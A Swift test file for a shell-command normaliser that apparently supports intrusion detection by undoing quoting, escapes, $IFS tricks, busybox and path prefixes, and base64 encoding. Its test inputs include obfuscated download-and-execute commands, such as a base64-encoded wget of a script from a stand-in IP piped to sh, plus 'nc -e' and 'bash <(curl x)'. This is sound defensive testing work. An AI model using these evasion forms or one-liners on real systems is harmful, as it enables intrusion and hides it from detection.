import Testing

@testable import Detection

@Suite struct ShellNormaliserTests {
    private func normalised(_ bytes: [UInt8]) -> [UInt8] {
        var normaliser = ShellNormaliser()
        normaliser.normalise(bytes.span)
        return normaliser.output
    }

    private func normalised(_ text: String) -> String { String(decoding: normalised(Array(text.utf8)), as: UTF8.self) }

    @Test(arguments: [
        // Words and operators, one space each
        ("", " "), ("   \t ", " "), ("ls", " ls "), ("  ls   -la\t/tmp ", " ls -la /tmp "),
        ("a|b", " a | b "), ("a||b&&c;d&", " a || b && c ; d & "), ("a | | b", " a | | b "),
        ("x>y", " x > y "), ("x>>y 2>&1", " x >> y 2 >& 1 "), ("a<b", " a < b "), ("(a;b)", " ( a ; b ) "),
        ("echo `id`", " echo ` id ` "), ("echo $(id)", " echo $( id ) "), ("bash <(curl x)", " bash < ( curl x ) "),
        ("a\nb", " a ; b "), ("a\r\nb", " a ; b "), ("a\\\nb", " ab "), ("a\\\r\nb", " ab "),
        // Quotes
        ("w'g'et x", " wget x "), ("\"wget\" 'x y'", " wget x y "), ("$'wget'", " wget "), ("$\"wget\"", " wget "),
        ("sh -c \"a|b\"", " sh -c a | b "), ("it's", " its "),
        // Escapes
        ("w\\get", " wget "), ("\\x77\\x67et", " wget "), ("$'\\167\\147et'", " wget "), ("\\0167get", " wget "),
        ("'\\x7f\\x45LF'", " \u{7f}ELF "), ("a\\ b", " a b "), ("a\\;b", " a;b "), ("a\\\\b", " a\\b "),
        ("echo -e 'a\\nb\\tc'", " echo -e a ; b c "), ("\\nc -e", " nc -e "), ("a\\", " a "), ("\\xzz", " xzz "),
        ("a\\x20b", " a b "), ("a\\x7cb", " a | b "), ("\\x4", " \u{4} "),
        // Expansions
        ("wget${IFS}x", " wget x "), ("wget$IFS$9x", " wget x "), ("wget${IFS%??}x", " wget x "),
        ("a$IFSb", " a$IFSb "),
        ("w$@get", " wget "), ("w${@}get", " wget "), ("w$1get", " wget "), ("wg${x}et", " wget "),
        ("/tmp/${name}.sh", " /tmp/${name}.sh "), ("$HOME/x", " $HOME/x "), ("a$", " a$ "), ("${", " ${ "),
        ("${${${${", " ${${${${ "),
        // BusyBox
        ("busybox wget x", " wget x "), ("/bin/busybox wget x", " wget x "), ("busybox", " busybox "),
        ("a; busybox; b", " a ; busybox ; b "), ("mybusybox x", " mybusybox x "), ("busybox busybox id", " id "),
        ("busybox | x", " busybox | x "), ("busybox --list", " busybox --list "),
        // Programs by their place, and what runs others
        ("/bin/wget x", " wget x "), ("a;/usr/bin/wget x", " a ; wget x "), ("/bin/./uname -a", " uname -a "),
        ("/usr//bin/././id", " id "), ("/usr/local/sbin/x|/bin/sh", " x | sh "), ("/tmp/bin/x", " /tmp/bin/x "),
        ("/usr/lib/x y", " /usr/lib/x y "), ("/bin/", " /bin/ "), ("cat /bin/ls", " cat /bin/ls "),
        ("x > /bin/ls", " x > /bin/ls "), ("x >& /bin/ls", " x >& /bin/ls "), ("x 2>&1|/bin/tee", " x 2 >& 1 | tee "),
        ("x &>/bin/ls", " x &> /bin/ls "), ("x&/bin/ls", " x & ls "), ("sh -c '/bin/ls /bin'", " sh -c ls /bin "),
        ("sudo wget x", " wget x "), ("nohup /usr/bin/wget x &", " wget x & "), ("sudo env A=1 /bin/ls", " A=1 ls "),
        ("sudo -n /bin/sh", " sudo -n /bin/sh "), ("echo sudo x", " echo sudo x "), ("sudo", " sudo "),
        ("if /bin/true; then exec /bin/sh; fi", " if true ; then sh ; fi "), ("A=/bin/ls", " A=/bin/ls "),
        // Base64: "wget -qO- http://198.51.100.7/a.sh | sh"
        (
            "echo d2dldCAtcU8tIGh0dHA6Ly8xOTguNTEuMTAwLjcvYS5zaCB8IHNo|base64 -d|sh",
            " echo wget -qO- http://198.51.100.7/a.sh | sh | base64 -d | sh "
        ),
        ("echo dXNlcg==", " echo dXNlcg== "), ("ls /usr/local/bin/something", " ls /usr/local/bin/something "),
        ("AAAAB3NzaC1yc2EAAAADAQABAAABgQ", " AAAAB3NzaC1yc2EAAAADAQABAAABgQ "),
        // Not undone twice: the base64 of the base64 of a command
        ("ZDJkbGRDQXRjVTh0SUdoMGRIQTZMeTg9Cg==", " d2dldCAtcU8tIGh0dHA6Ly8= ; "),
    ])
    func form(_ text: String, _ expected: String) { #expect(normalised(text) == expected) }

    @Test func everyByteIsSurvived() {
        for byte in UInt8.min...UInt8.max {
            for text in [[byte], [byte, byte], [0x5c, byte], [0x24, byte], [0x24, 0x7b, byte], [0x61, byte, 0x61]] {
                #expect(normalised(text).last == UInt8(ascii: " "))
            }
        }
    }

    /// Room in the output is bounded by a small multiple of the input, whatever it is.
    @Test(arguments: 0..<20)
    func outputIsAtMostThreeTimesTheInput(_ seed: UInt64) {
        var generator = SplitMix64(seed: seed)
        let letters = Array("a|&;<>()`$'\"\\x{}IFS@ \n".utf8)
        for length in [0, 1, 10, 100, 1000] {
            let text = (0..<length).map { _ in letters.randomElement(using: &generator) ?? 0 }
            #expect(normalised(text).count <= 3 * length + 1)
        }
    }
}
